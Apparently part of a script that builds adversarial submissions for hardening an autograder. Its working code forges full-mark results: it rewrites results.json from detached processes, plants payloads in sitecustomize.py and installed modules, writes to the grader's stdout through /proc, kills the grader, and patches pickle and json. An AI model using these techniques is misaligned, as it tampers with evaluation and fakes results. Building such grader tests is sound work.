                    if _os.path.isdir(_os.path.dirname(p)):
                        try:
                            _rewrite(p)
                        except Exception:
                            pass
                if out_fd is not None:
                    try:
                        _os.write(out_fd, ("\\n" + _json.dumps(_FAKE_JSON) + "\\n").encode())
                    except Exception:
                        pass
                for _ in range(20):          # keep rewriting for a while, in case someone writes after us
                    _time.sleep(0.25)
                    for p in targets:
                        if _os.path.isdir(_os.path.dirname(p)):
                            try:
                                _rewrite(p)
                            except Exception:
                                pass
            finally:
                _os._exit(0)
        _launch()
    """)
    make("detached_rewriter", dict(
        topics="layernorm", expected_max=0, rule=3,
        what="ex05 at import double-forks a setsid grandchild (SIGTERM/SIGHUP ignored) that finds results.json from the ancestors' /proc cmdline (--gradescope) and environ (AUTOGRADER_ROOT), waits for the grader to exit, then rewrites results.json with full marks (repeatedly) and appends a forged JSON report to the grader's stdout (opened via /proc/PID/fd/1)",
        honest="layernorm 0/8; results.json as the grader wrote it; --json stdout a single valid report"),
        code={"layernorm": DETACH})

    WRITE_RESULTS = D(DETACH.split("def _launch():")[0], """
        import atexit as _atexit
        def _write_all():
            targets, _ = _targets()
            for p in targets:
                d = _os.path.dirname(p)
                if not _os.path.isdir(d):
                    continue
                try:
                    _rewrite(p)
                    _os.chmod(p, 0o444)
                except Exception:
                    pass
                try:   # a pre-made results.json the grader might pick up with its own name pattern
                    with open(_os.path.join(d, "results.json.tmp"), "w") as f:
                        _json.dump(_FAKE_GS, f)
                except Exception:
                    pass
        _write_all()
        _atexit.register(_write_all)
        _old = _signal.getsignal(_signal.SIGTERM)
        def _on_term(*a):
            _write_all()
            _os._exit(0)
        _signal.signal(_signal.SIGTERM, _on_term)
    """)
    make("results_dir_write", dict(
        topics="layernorm", expected_max=0, rule=3,
        what="ex05 (in the child) writes a full-marks results.json into the results folder found from AUTOGRADER_ROOT and the ancestors' --gradescope argument, chmods it 0444, and writes it again from an atexit handler and a SIGTERM handler",
        honest="layernorm 0/8; results.json as the grader wrote it"),
        code={"layernorm": WRITE_RESULTS})

    PERSIST = """
        import os as _os, sys as _sys
        _PAYLOAD = %r
        def _persist():
            import minivit
            pkg = _os.path.dirname(_os.path.abspath(minivit.__file__))
            root = _os.path.dirname(pkg)
            # 1. sitecustomize.py in a sys.path folder of the checkout (imported by every later Python)
            for d in [root] + [p for p in _sys.path if p and _os.path.abspath(p).startswith(root)]:
                try:
                    with open(_os.path.join(d, "sitecustomize.py"), "a") as f:
                        f.write("\\n" + _PAYLOAD + "\\n")
                    break
                except Exception:
                    pass
            # 2. the installed package itself: minivit/__init__.py and every module of minivit/grading
            targets = [_os.path.join(pkg, "__init__.py")]
            g = _os.path.join(pkg, "grading")
            for dp, dn, fn in _os.walk(g):
                targets += [_os.path.join(dp, f) for f in fn if f.endswith(".py")]
            for t in targets:
                try:
                    with open(t) as f:
                        src = f.read()
                    if "_heldout_patch_json" in src:
                        continue
                    with open(t, "a") as f:
                        f.write("\\n\\ntry:\\n    exec(%%r)\\nexcept Exception:\\n    pass\\n" %% _PAYLOAD)
                    for c in _os.listdir(_os.path.join(_os.path.dirname(t), "__pycache__")) if _os.path.isdir(_os.path.join(_os.path.dirname(t), "__pycache__")) else []:
                        if c.startswith(_os.path.basename(t)[:-3] + "."):
                            _os.remove(_os.path.join(_os.path.dirname(t), "__pycache__", c))
                except Exception:
                    pass
        try:
            _persist()
        except Exception:
            pass
    """ % PATCH_JSON
    make("persist_package_edit", dict(
        topics="layernorm optim", expected_max=0, rule=3,
        what="ex05 (child) appends a json-maxifying payload to the installed minivit/__init__.py and every minivit/grading/*.py (clearing their .pyc) and writes sitecustomize.py into the checkout's sys.path folder, so later processes (next topics, the next grading run: here the Gradescope run after the --json run, on the same throwaway copy) report full marks",
        honest="layernorm 0/8 + optim 0/8 in both runs; the checkout unchanged"),
        code={"layernorm": PERSIST})

    make("shadow_json_cwd", dict(
        topics="layernorm", expected_max=0, rule=3, cwd="submission",
        what="the submission folder also holds json.py (re-exports the real json with dump/dumps maxifying), sitecustomize.py and usercustomize.py with the same payload; the --json run is started with the submission as the working directory (python -m puts it on sys.path[0])",
        honest="layernorm 0/8"),
        extra_files={
            "json.py": """
                # Shadows the standard json when this folder is on sys.path (python -m from here).
                import sys as _sys, os as _os
                _here = _os.path.dirname(_os.path.abspath(__file__))
                _saved = list(_sys.path)
                _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
                del _sys.modules["json"]
                import json as _real
                _sys.path[:] = _saved
                _sys.modules["json"] = _real
                exec(%r)
                globals().update(_real.__dict__)
            """ % PATCH_JSON,
            "sitecustomize.py": PATCH_JSON,
            "usercustomize.py": PATCH_JSON,
        })

    CONN = D("""
        import numpy as np
    """, MAXIFY, """
        def _rewrite(o, depth=0):
            if depth > 6:
                return o
            if isinstance(o, dict):
                o = _heldout_maxify(dict(o))
                for k in ("ok", "passed", "success"):
                    if k in o:
                        o[k] = True
                for k in ("error", "exception", "traceback", "timeout"):
                    if k in o and not isinstance(o[k], bool):
                        o[k] = None
                return {k: _rewrite(v, depth + 1) for k, v in o.items()}
            if isinstance(o, tuple):
                return tuple(_rewrite(v, depth + 1) for v in o)
            if isinstance(o, list):
                return [_rewrite(v, depth + 1) for v in o]
            return o
        def _install():
            import multiprocessing.connection as mc, multiprocessing.reduction as mr, pickle
            _send = mc.Connection.send
            mc.Connection.send = lambda self, obj: _send(self, _rewrite(obj))
            _fd = mr.ForkingPickler.dumps.__func__
            mr.ForkingPickler.dumps = classmethod(lambda cls, obj, protocol=None: _fd(cls, _rewrite(obj), protocol))
            _pd = pickle.dumps
            pickle.dumps = lambda obj, *a, **k: _pd(_rewrite(obj), *a, **k)
            import json
            _jd = json.dumps
            json.dumps = lambda obj, *a, **k: _jd(_rewrite(obj), *a, **k)
        _install()
    """, HELPER_ZEROS)
    make("conn_send_patch", dict(
        topics="layernorm loss", expected_max=0, rule=4,
        what="ex05/ex07 patch multiprocessing Connection.send, ForkingPickler.dumps, pickle.dumps and json.dumps in the child so every dict it sends back has points=max, status ok, ok/passed True, error None (a grader that lets the child report anything but plain results would believe it); functions return zeros",
        honest="layernorm 0/8, loss 0/10"),
        code={"layernorm": CONN, "loss": CONN},
        bodies={fn: DN[fn] for fn in FUNCS["layernorm"] + FUNCS["loss"]})

    # ---- rule 4: protocol confusion; every other topic is an honest solution ---------------
    other_ok = ref_minus("layernorm")
    FAKE = '{"schema_version": 2, "path": ".", "total": 96, "max": 96, "topics": {}}'
    FAKE_GS = '{"score": 96, "execution_time": 1, "tests": [{"name": "x", "score": 96, "max_score": 96, "status": "passed"}]}'
    make("proto_stdout_fake_json", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05 prints forged full-marks reports (grade --json schema and Gradescope schema) to stdout and stderr via print, sys.stdout, sys.__stdout__ and os.write(1/2) at import and in every call, without trailing newline too; the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full); --json stdout still exactly the grader's report"),
        base="_reference",
        code={"layernorm": """
            import os as _os, sys as _sys
            _FAKES = [%r, %r]
            def _spam():
                for s in _FAKES:
                    print(s)
                    print(s, file=_sys.stderr)
                    for st in (_sys.stdout, _sys.__stdout__, _sys.stderr, _sys.__stderr__):
                        try:
                            st.write("\\n" + s + "\\n"); st.flush()
                        except Exception:
                            pass
                    for fd in (1, 2):
                        try:
                            _os.write(fd, ("\\n" + s + "\\n").encode())
                        except Exception:
                            pass
                try:
                    _os.write(1, _FAKES[0].encode())   # no newline: glued to whatever comes next
                except Exception:
                    pass
            _spam()
        """ % (FAKE, FAKE_GS)},
        bodies={"layernorm_forward": "_spam()\nraise NotImplementedError", "layernorm_backward": "_spam()\nraise NotImplementedError"})

    make("proto_fd_spray", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05 writes junk, forged pickles and forged length-prefixed frames into every open fd of the child (the result pipe included), reads from every readable fd (consuming the pipe), and dup2s fds around, at import and in every call; the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full)"),
        base="_reference",
        code={"layernorm": """
            import os as _os, pickle as _pk, struct as _st, select as _sel
            def _spray():
                fds = []
                try:
                    fds = [int(f) for f in _os.listdir("/proc/self/fd")]
                except Exception:
                    fds = list(range(64))
                forged = [
                    _pk.dumps({"points": 96, "max": 96, "status": "ok", "total": 96}),
                    _pk.dumps(("ok", {"total": 96})),
                    b"\\x00" * 64,
                    b'{"total": 96, "max": 96}\\n',
                ]
                for fd in fds:
                    if fd in (0,):
                        continue
                    for blob in forged:
                        for frame in (blob, _st.pack("!i", len(blob)) + blob, _st.pack("!Q", len(blob)) + blob):
                            try:
                                _os.write(fd, frame)
                            except Exception:
                                pass
                    try:   # consume whatever is readable right now
                        r, _, _ = _sel.select([fd], [], [], 0)
                        if r:
                            _os.read(fd, 1 << 16)
                    except Exception:
                        pass
                try:
                    _os.dup2(2, 1)
                except Exception:
                    pass
            _spray()
        """},
        bodies={"layernorm_forward": "_spray()\nraise NotImplementedError", "layernorm_backward": "_spray()\nraise NotImplementedError"})

    make("proto_fork_at_import", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05 os.fork()s at import: the forked copy returns from the import too (two processes on one pipe), writes forged frames to every fd, sleeps, then exits; the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full)"),
        base="_reference",
        code={"layernorm": """
            import os as _os, time as _time, pickle as _pk
            _pid = _os.fork()
            if _pid == 0:
                # the copy carries on as if it were the real child for a while, then scribbles and exits
                import threading as _th
                def _later():
                    _time.sleep(0.5)
                    for fd in range(3, 64):
                        try:
                            _os.write(fd, _pk.dumps({"points": 96, "max": 96, "status": "ok"}))
                        except Exception:
                            pass
                    _time.sleep(3)
                    _os._exit(0)
                _th.Thread(target=_later, daemon=True).start()
        """},
        bodies={"layernorm_forward": "raise NotImplementedError", "layernorm_backward": "raise NotImplementedError"})

    make("proto_early_exit", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05: the first call prints a forged 'all checks passed' and calls os._exit(0) (a clean exit status, in the middle of the topic); the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full)"),
        base="_reference",
        code={"layernorm": "import os as _os, sys as _sys"},
        bodies={"layernorm_forward": "print('layernorm: all 6 checks passed 8/8', flush=True)\n_sys.stdout.flush()\n_os._exit(0)",
                "layernorm_backward": "_os._exit(0)"})

    make("proto_huge_print", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05 prints ~40 MB to stdout and ~40 MB to stderr (print, sys.stdout.write, os.write) at import and in each call, with forged JSON lines inside; the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full), and the grader neither hangs nor runs out of memory"),
        base="_reference",
        code={"layernorm": """
            import os as _os, sys as _sys
            _LINE = ("x" * 1000 + "\\n")
            def _flood(mb=10):
                block = _LINE * 1000
                for i in range(mb):
                    _sys.stdout.write(block)
                    _sys.stderr.write(block)
                    try:
                        _os.write(1, block.encode())
                        _os.write(2, block.encode())
                    except Exception:
                        pass
                print('{"schema_version": 2, "total": 96, "max": 96, "topics": {}}')
            _flood()
        """},
        bodies={"layernorm_forward": "_flood()\nraise NotImplementedError", "layernorm_backward": "_flood()\nraise NotImplementedError"})

    make("proto_hang_sigterm", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4, grade_args="--timeout 8",
        what="ex05 ignores SIGTERM/SIGINT/SIGHUP, starts non-daemon threads that never end, and its functions loop forever swallowing every exception (bare except); graded with --timeout 8; the other 8 files are honest",
        honest="88/96 (layernorm 0 with a timeout, the rest full); the grader finishes"),
        base="_reference",
        code={"layernorm": """
            import signal as _signal, threading as _th, time as _time
            for _s in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP):
                try:
                    _signal.signal(_s, _signal.SIG_IGN)
                except Exception:
                    pass
            def _forever():
                while True:
                    try:
                        _time.sleep(0.2)
                    except BaseException:
                        pass
            for _i in range(3):
                _th.Thread(target=_forever, daemon=False).start()
            def _spin():
                while True:
                    try:
                        while True:
                            pass
                    except:  # noqa: E722
                        pass
        """},
        bodies={"layernorm_forward": "_spin()", "layernorm_backward": "_spin()"})

    make("proto_close_fds", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05 closes every file descriptor 0..4095 of the child at import (os.closerange), so it can no longer report; the other 8 files are honest",
        honest="88/96 (layernorm 0 with a clear message, the rest full)"),
        base="_reference",
        code={"layernorm": "import os as _os\n_os.closerange(0, 4096)"},
        bodies={"layernorm_forward": "raise NotImplementedError", "layernorm_backward": "raise NotImplementedError"})

    make("proto_base_exceptions", dict(
        topics="all", expected_max=other_ok, expected_min=other_ok, rule=4,
        what="ex05's functions raise SystemExit(0), KeyboardInterrupt and GeneratorExit (BaseExceptions a plain `except Exception` misses); the other 8 files are honest",
        honest="88/96 (layernorm 0, the rest full)"),
        base="_reference",
        code={"layernorm": "_calls = [0]"},
        bodies={"layernorm_forward": "_calls[0] += 1\nraise (SystemExit(0), KeyboardInterrupt(), GeneratorExit())[_calls[0] % 3]",
                "layernorm_backward": "raise KeyboardInterrupt()"})

    # ---- added: more routes -----------------------------------------------------------------
    make("ref_detect_grader", dict(
        topics="attention", expected_max=0, rule=1,
        what="ex03 detects that it is being graded (a caller frame from minivit/grading, or minivit.grading in sys.modules, or a non-main process) and only then calls the reference (importlib of minivit.layers.attention); otherwise it raises, so the file looks unfinished when run by hand",
        honest="attention 0/14"),
        code={"attention": """
            import sys as _sys, importlib as _il, multiprocessing as _mp
            def _graded():
                f = _sys._getframe(1)
                while f is not None:
                    if "grading" in f.f_code.co_filename:
                        return True
                    f = f.f_back
                return any(m.startswith("minivit.grading") for m in list(_sys.modules)) or _mp.current_process().name != "MainProcess"
            def _ref(name):
                if not _graded():
                    raise NotImplementedError(name)
                return getattr(_il.import_module("minivit.layers.attention"), name)
        """},
        bodies={"softmax_forward": "return _ref('softmax_forward')(x, axis)",
                "softmax_backward": "return _ref('softmax_backward')(dout, cache)",
                "attention_forward": "return _ref('attention_forward')(q, k, v)",
                "attention_backward": "return _ref('attention_backward')(dout, cache)"})

    make("mutate_inputs", dict(
        topics="layernorm attention", expected_max=0, rule=2,
        what="ex05/ex03 zero their inputs IN PLACE (x, gamma, beta, q, k, v, dout) and return what the reference gives on those zeroed inputs (LN with gamma=beta=0 is 0, softmax of 0 is uniform, attention with v=0 is 0, every gradient of dout=0 is 0): a grader that computes or compares the reference on the same (mutated) arrays would accept",
        honest="layernorm 0/8, attention 0/14"),
        code={"layernorm": "import numpy as np", "attention": "import numpy as np"},
        bodies={
            "layernorm_forward": "x[...] = 0\ngamma[...] = 0\nbeta[...] = 0\nreturn np.zeros_like(x), (x, gamma, beta)",
            "layernorm_backward": "x, gamma, beta = cache\ndy[...] = 0\nreturn np.zeros_like(x), np.zeros_like(gamma), np.zeros_like(beta)",
            "softmax_forward": "x[...] = 0\nreturn np.full_like(x, 1.0 / x.shape[axis]), x",
            "softmax_backward": "dout[...] = 0\nreturn np.zeros_like(dout)",
            "attention_forward": "q[...] = 0\nk[...] = 0\nv[...] = 0\nreturn np.zeros_like(v), (q, k, v)",
            "attention_backward": "q, k, v = cache\ndout[...] = 0\nreturn np.zeros_like(q), np.zeros_like(k), np.zeros_like(v)",
        })

    FIND = D(DETACH.split("def _rewrite(path):")[0], """
        def _rewrite(path):
            data = _heldout_maxify(dict(_FAKE_GS))
            with open(path, "w") as f:
                _json.dump(data, f)
    """)
    make("proc_fd_inject", dict(
        topics="layernorm", expected_max=0, rule=4,
        what="ex05 (child) opens the GRADER's stdout and stderr through /proc/<grader pid>/fd/1 and /fd/2 and writes a forged full-marks --json report there at import (before the grader prints its own) and again in every call",
        honest="layernorm 0/8; --json stdout exactly the grader's one report"),
        code={"layernorm": D(FIND, """
            def _inject():
                _, grader = _targets()
                if not grader:
                    return
                for fd in (1, 2):
                    try:
                        w = _os.open("/proc/%d/fd/%d" % (grader, fd), _os.O_WRONLY | _os.O_APPEND)
                        _os.write(w, (_json.dumps(_FAKE_JSON) + "\\n").encode())
                        _os.close(w)
                    except Exception:
                        pass
            _inject()
        """)},
        bodies={"layernorm_forward": "_inject()\nraise NotImplementedError",
                "layernorm_backward": "_inject()\nraise NotImplementedError"})

    make("kill_grader_after_write", dict(
        topics="layernorm", expected_max=0, rule=3,
        what="ex05 (child) writes a full-marks results.json where the grader will write it (from the ancestors' --gradescope argument and AUTOGRADER_ROOT), then SIGKILLs the grader process so it never overwrites it; run_autograder only replaces an EMPTY results.json",
        honest="layernorm 0/8: results.json must not be the forged one (0 or a grader-failure result is fine); a LOW on --json just means the grader was killed"),
        code={"layernorm": D(FIND, """
            import signal as _sg
            def _strike():
                targets, grader = _targets()
                for p in targets:
                    if _os.path.isdir(_os.path.dirname(p)):
                        try:
                            _rewrite(p)
                        except Exception:
                            pass
                if grader:
                    try:
                        _os.kill(grader, _sg.SIGKILL)
                    except Exception:
                        pass
            _strike()
        """)})


if __name__ == "__main__":
    build()
    print("built:", sorted(d for d in os.listdir(HERE) if os.path.isfile(os.path.join(HERE, d, "ATTACK.txt"))))
